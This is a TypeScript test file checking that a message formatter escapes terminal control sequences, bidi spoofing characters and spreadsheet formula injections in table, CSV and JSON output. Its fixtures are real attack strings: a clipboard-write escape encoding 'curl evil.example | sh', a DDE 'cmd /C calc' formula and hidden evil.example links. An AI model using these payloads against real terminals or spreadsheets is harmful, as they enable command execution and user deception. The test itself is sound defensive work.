import { expect, test } from "vitest";
import type { InboxMessage } from "#server/messages/message-store.ts";
import { formatMessages } from "./format-messages.ts";

// What a visitor can type to take over a terminal: each would act, not show, if printed raw.
const SET_TITLE = "\u001b]0;You have been hacked\u0007";
const CLEAR_SCREEN = "\u001b[2J\u001b[H";
const HIDDEN_LINK = "\u001b]8;;https://evil.example/\u001b\\Your invoice\u001b]8;;\u001b\\";
const CLIPBOARD_WRITE = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const C1_CSI = "\u009b31mred";
const RIGHT_TO_LEFT = "\u202egnp.exe";
const OVERWRITE = "Pay 10 EUR\rPay 99";

// Every character a terminal may act on, written out here rather than imported, so the test cannot agree with a wrong module.
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

function stored(fields: Partial<InboxMessage>): InboxMessage {
  return {
    id: "m1",
    receivedAt: "2026-11-20T09:00:00.000Z",
    email: "visitor@example.com",
    subject: "Hello",
    message: "Hi",
    status: "held",
    attempts: 0,
    state: "held",
    ...fields,
  };
}

const hostile = stored({
  email: "visitor\u202e@example.com",
  subject: `Invoice ${RIGHT_TO_LEFT} ${C1_CSI}`,
  message: [SET_TITLE, CLEAR_SCREEN, HIDDEN_LINK, CLIPBOARD_WRITE, C1_CSI, RIGHT_TO_LEFT, OVERWRITE, "\u007f\u0085"].join("\n"),
});

test("the table shows escape sequences as visible text and stays a table", () => {
  const output = formatMessages([hostile], "table");
  expect(output).not.toMatch(RAW_CONTROL);
  expect(output).toContain("visitor\\u202e@example.com");
  expect(output).toContain("Invoice \\u202egnp.exe \\u009b31mred");
  expect(output).toContain("\\u001b]0;You have");
  const lines = output.split("\n").slice(0, -1);
  // One row of one line between the borders: no escape moved the cursor, no newline split a cell.
  expect(lines).toHaveLength(5);
  for (const line of lines) expect(line.length).toBe(lines[0]?.length);
});

test("the table keeps a message's lines and tabs on one row", () => {
  const lines = formatMessages([stored({ message: "Line one\nLine two\tand a tab\r\nLine three" })], "table").split("\n");
  expect(lines).toHaveLength(6);
  expect(lines[3]).toContain("Line one Line two and a tab Line three");
});

test("CSV shows escape sequences as visible text, keeping the message's newlines, its tabs written out", () => {
  const output = formatMessages([stored({ ...hostile, message: `${hostile.message}\nA\ttab\r\nand CRLF` })], "csv");
  expect(output).not.toMatch(RAW_CONTROL);
  expect(output).toContain(
    [
      "\\u001b]0;You have been hacked\\u0007",
      "\\u001b[2J\\u001b[H",
      "\\u001b]8;;https://evil.example/\\u001b\\Your invoice\\u001b]8;;\\u001b\\",
      "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007",
      "\\u009b31mred",
      "\\u202egnp.exe",
      "Pay 10 EUR\\u000dPay 99",
      "\\u007f\\u0085",
      "A\\u0009tab\r\nand CRLF",
    ].join("\n"),
  );
  expect(output).toContain(",visitor\\u202e@example.com,Invoice \\u202egnp.exe \\u009b31mred,");
});

test("JSON escapes every control and bidi character and still reads back exactly as stored", () => {
  const output = formatMessages([hostile], "json");
  expect(output).not.toMatch(RAW_CONTROL);
  expect(output).toContain("\\u009b31mred");
  expect(output).toContain("\\u202egnp.exe");
  expect(JSON.parse(output)).toEqual([
    {
      id: hostile.id,
      receivedAt: hostile.receivedAt,
      email: hostile.email,
      subject: hostile.subject,
      message: hostile.message,
      status: hostile.status,
      state: hostile.state,
    },
  ]);
});

test("CSV neutralises cells a spreadsheet would run as a formula, with a leading quote", () => {
  const output = formatMessages(
    [
      stored({ email: "-2+3@example.com", subject: '=HYPERLINK("https://evil.example","Open")', message: "+1+1" }),
      stored({ id: "m2", email: "@home@example.com", subject: "\tTabbed", message: "\r\n=cmd|' /C calc'!A0" }),
      stored({ id: "m3", email: "ok@example.com", subject: "Fine = fine", message: "Totals: -2, +3, @ noon" }),
    ],
    "csv",
  );
  expect(output.split("\n").slice(1).join("\n")).toBe(
    [
      `m1,2026-11-20T09:00:00.000Z,'-2+3@example.com,"'=HYPERLINK(""https://evil.example"",""Open"")",'+1+1,held,held`,
      `m2,2026-11-20T09:00:00.000Z,'@home@example.com,\\u0009Tabbed,"'\r\n=cmd|' /C calc'!A0",held,held`,
      'm3,2026-11-20T09:00:00.000Z,ok@example.com,Fine = fine,"Totals: -2, +3, @ noon",held,held',
    ].join("\n"),
  );
});

test("CSV leaves no cell starting a formula when a spreadsheet splits it on semicolons or tabs", () => {
  const output = formatMessages(
    [stored({ subject: "Quote; =1+1", message: 'hello;=1+1;@SUM(1;2); -3\t=HYPERLINK("https://evil.example")' })],
    "csv",
  );
  const body = output.split("\n").slice(1).join("\n");
  expect(body).not.toContain("\t");
  for (const separator of [",", ";"]) {
    const cells = body.split(separator).map((cell) => cell.replace(/^"/, ""));
    expect(
      cells.filter((cell) => /^\s*[=+\-@]/.test(cell)),
      `split on ${separator}`,
    ).toEqual([]);
  }
  expect(body).toContain("hello;'=1+1;'@SUM(1;2);' -3\\u0009=HYPERLINK");
});
